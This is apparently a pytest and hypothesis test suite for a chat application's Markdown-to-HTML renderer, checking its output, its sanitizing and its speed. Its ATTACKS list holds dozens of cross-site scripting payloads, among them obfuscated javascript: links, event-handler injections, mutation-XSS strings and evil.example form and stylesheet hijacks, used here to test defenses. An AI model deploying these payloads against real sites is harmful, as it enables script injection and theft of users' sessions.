"""Markdown becomes HTML that is safe, whatever was typed, and does so quickly."""

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chat.text import ATTRIBUTES, MOST_MARKS, SCHEMES, TAGS, as_typed, render

REL = 'target="_blank" rel="nofollow noopener noreferrer"'
ALLOWED = {tag: ATTRIBUTES.get(tag, set()) for tag in TAGS} | {"a": {"href", "title", "target", "rel"}}


class Page(HTMLParser):
    """What a browser would make of the HTML: its tags, its links, and the text that shows."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.oddities: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.oddities.append(data)

    def handle_decl(self, decl: str) -> None:
        self.oddities.append(decl)

    def handle_pi(self, data: str) -> None:
        self.oddities.append(data)

    def unknown_decl(self, data: str) -> None:
        self.oddities.append(data)

    @property
    def links(self) -> list[str]:
        return [attributes["href"] or "" for tag, attributes in self.tags if tag == "a"]


def assert_safe(html: str) -> None:
    page = Page(html)
    assert not page.oddities, html
    for tag, attributes in page.tags:
        assert tag in ALLOWED, html
        assert set(attributes) <= ALLOWED[tag], html
        if tag == "a":
            assert attributes["rel"] == "nofollow noopener noreferrer"
            assert attributes["target"] == "_blank"
            link = attributes.get("href", "https:")  # one that no browser could follow is left out
            assert (link or "").partition(":")[0].lower() in SCHEMES, html


# What it makes --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("typed", "html"),
    [
        ("hi", "<p>hi</p>"),
        ("one\ntwo", "<p>one<br>\ntwo</p>"),
        ("one\n\ntwo", "<p>one</p>\n<p>two</p>"),
        ("**bold** _em_ `x<y` ~~gone~~", "<p><strong>bold</strong> <em>em</em> <code>x&lt;y</code> <s>gone</s></p>"),
        ("```py\nx < y\n```", "<pre><code>x &lt; y\n</code></pre>"),
        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>"),
        ("3. c\n4. d", '<ol start="3">\n<li>c</li>\n<li>d</li>\n</ol>'),
        ("# Title", "<p><strong>Title</strong></p>"),
        ("Title\n=====", "<p>Title<br>\n=====</p>"),
        ("https://example.org/?a=b&c", f'<p><a href="https://example.org/?a=b&amp;c" {REL}>https://example.org/?a=b&amp;c</a></p>'),
        ("ann@example.org", f'<p><a href="mailto:ann@example.org" {REL}>ann@example.org</a></p>'),
        ("[here](https://example.org)", f'<p><a href="https://example.org" {REL}>here</a></p>'),
        ("![a cat](https://example.org/cat.png)", f'<p><a href="https://example.org/cat.png" {REL}>a cat</a></p>'),
        ("![](https://example.org/cat.png)", f'<p><a href="https://example.org/cat.png" {REL}>https://example.org/cat.png</a></p>'),
        ("[there](/rooms/lobby/)", "<p>[there](/rooms/lobby/)</p>"),
        ("a & b < c > d \"e\" 'f'", "<p>a &amp; b &lt; c &gt; d \"e\" 'f'</p>"),
        ("👩‍🚀 ❤️ שלום", "<p>👩‍🚀 ❤️ שלום</p>"),
    ],
)  # fmt: skip
def test_markdown_becomes_html(typed: str, html: str) -> None:
    assert render(typed) == html


def test_a_table_stays_as_it_was_typed() -> None:
    """4,000 characters of one would become 670,000."""
    assert "table" not in render("| a | b |\n|---|:-:|\n| 1 | 2 |")
    wide = "|a" * 200 + "|\n" + "|-" * 200 + "|\n" + "c\n" * 1_500
    assert len(render(wide)) < 5 * len(wide)


@pytest.mark.parametrize("typed", ["README.md", "manage.py", "It is over.in the end", "e.g. this", "3.14", "a.b.c"])
def test_file_names_and_slips_are_no_links(typed: str) -> None:
    assert render(typed) == f"<p>{typed}</p>"


@pytest.mark.parametrize("typed", ["#", "-", ">", "```", "[](https://example.org)", "[x]: https://example.org", "1."])
def test_nothing_typed_disappears(typed: str) -> None:
    page = Page(render(typed))
    assert "".join(page.text.split()) == "".join(typed.split())


def test_a_message_that_is_all_marks_is_shown_as_typed() -> None:
    typed = "[" * (MOST_MARKS + 1) + "\n<b>"
    assert render(typed) == as_typed(typed) == "<p>" + "[" * (MOST_MARKS + 1) + "<br>\n&lt;b&gt;</p>"


def test_long_prose_is_still_marked_up() -> None:
    assert "<strong>word</strong>" in render("**word** and more; " * 60)


# What it must not let through -----------------------------------------------------------------------------------

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"//',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    '<p style="background:url(javascript:alert(1))">',
    "<style>@import 'https://evil.example/x.css'</style>",
    "<link rel=stylesheet href=https://evil.example>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<base href=https://evil.example>",
    "<form action=https://evil.example><input name=password></form>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](j\\avascript:alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](javascript\u200b:alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](data:image/png;base64,iVBORw0KGgo=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](blob:https://evil.example/1)",
    "[x](view-source:https://evil.example)",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    '![x"onerror="alert(1)](https://example.org/a.png)',
    '![x](https://example.org/"onerror="alert(1))',
    '![x](https://example.org/a.png "t\\" onerror=\\"alert(1)")',
    '[x](https://example.org "\\" onmouseover=\\"alert(1)")',
    "[x](https://example.org '\" onmouseover=\"alert(1)')",
    '[x](https://example.org/"onmouseover="alert(1))',
    "[x](https://example.org/'onmouseover='alert(1))",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<https://example.org/\"onmouseover='alert(1)'>",
    'https://example.org/"onmouseover="alert(1)',
    "https://example.org/<script>alert(1)</script>",
    "javascript:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "ftp://example.org",
    "`<script>alert(1)</script>`",
    "```<script>\nalert(1)\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "    <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[a](https://example.org)<style/onload=alert(1)>",
    "\u0000<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_only_text(attack: str) -> None:
    html = render(attack)
    assert_safe(html)
    assert not {"script", "img", "svg", "iframe", "style", "form"} & {tag for tag, _ in Page(html).tags}
    assert_safe(as_typed(attack))


SIGNS = ["<", ">", '"', "'", "&", "[", "](", ")", "![", "`", "```\n", "*", "_", "~~", "|", "\n", "- ", "> ", "    "]
WORDS = [
    "javascript:",
    "https://a.example",
    "www.a.com",
    "a@b.com",
    "&#",
    "&quot;",
    ";",
    "\\",
    "\t",
    "\r",
    "\0",
    " ",
    "x",
]
PIECES = st.sampled_from(ATTACKS + SIGNS + WORDS)


@given(st.lists(st.one_of(PIECES, st.text(max_size=20)), max_size=12).map("".join))
def test_whatever_is_typed_only_allowed_tags_and_attributes_come_out(typed: str) -> None:
    assert_safe(render(typed))
    assert_safe(as_typed(typed))


@given(st.text(max_size=200).filter(str.strip))
def test_whatever_is_typed_something_shows(typed: str) -> None:
    html = render(typed)
    assert Page(html).text.strip() or "<hr>" in html or not as_typed(typed)[3:-4].strip()


# How long it takes ----------------------------------------------------------------------------------------------

NESTS = ["[", "]", "*", "**", "_", ">", "> ", "`", "``` ", "![", "<", "&", "\\", "~", "~~", "|", "- ", "1. ", "# "]
NESTS += ["(", "[](", "[a](", "![a](", "[*", "*[", "*_", "*a ", "**a", "a**b", "`a``", "> - ", "a|b\n", "a|b\n-|-\n"]
NESTS += [
    "a.",
    "a@",
    "//",
    "http://",
    "mailto:",
    "www.",
    "a.com ",
    "a@b.com ",
    "http://a.b/",
    "http://a.b/(",
    "<http://",
]
NESTS += [
    "www.a|b=c$",
    "www.a=a",
    "=a=www.a",
    "www.www.aww.",
    "xn--www.",
    "aa.iohttphttpa.ioaxn--",
    "www.a.com+",
    "\uff5cwww.",
]
NESTS += ["    a\n", "```\n", "[a]: b\n", "é.", "\u0300", "\u200b", "\n", "&#x", "<!--"]


def fastest(typed: str) -> float:
    """Seconds of this thread's own time; the best of three, because the machine has other things to do."""
    times = []
    for _ in range(3):
        began = time.thread_time()
        render(typed)
        times.append(time.thread_time() - began)
    return min(times)


PLACES = ("www.", "a", "aa", ".com", "a.io", "https://", "mailto:", "//", "xn--", "1.1.1.1", "a@b.com", ":8000", " ")
MESS = st.sampled_from([*PLACES, *"|$+^=\uff5c-(/?.%,"])


@settings(max_examples=60)
@given(st.lists(MESS, min_size=2, max_size=30).map("".join), st.sampled_from([190, 400, 4_000]))
def test_nor_does_a_mess_in_which_an_address_may_begin_anywhere(unit: str, long: int) -> None:
    """It was seconds. Four times what it takes, for this one is not always the same."""
    assert fastest(f"{(unit * 4000)[:long]} " * (4000 // (long + 1))) < 0.2


@pytest.mark.parametrize(
    "typed",
    ["https://example.org/" + "long-words-in-its-name/" * 20 + "?a=1&b=2&c=3", "看" * 300 + " https://example.org/"],
    ids=["a long address", "no blanks"],
)
def test_a_long_word_may_be_an_address_all_the_same(typed: str) -> None:
    assert "<a href=" in render(typed)


@pytest.mark.parametrize("nest", NESTS)
def test_four_thousand_characters_of_anything_take_less_than_50_ms(nest: str) -> None:
    most = min(4000 // len(nest), MOST_MARKS // max(1, sum(nest.count(mark) for mark in "[<>*_~`|:@&\\$+^=｜")))
    for typed in (
        (nest * 4000)[:4000],
        nest * most,
        nest * most + "a" * (4000 - len(nest) * most),
        "x " * 1000 + nest * 500,
    ):
        assert fastest(typed) < 0.05
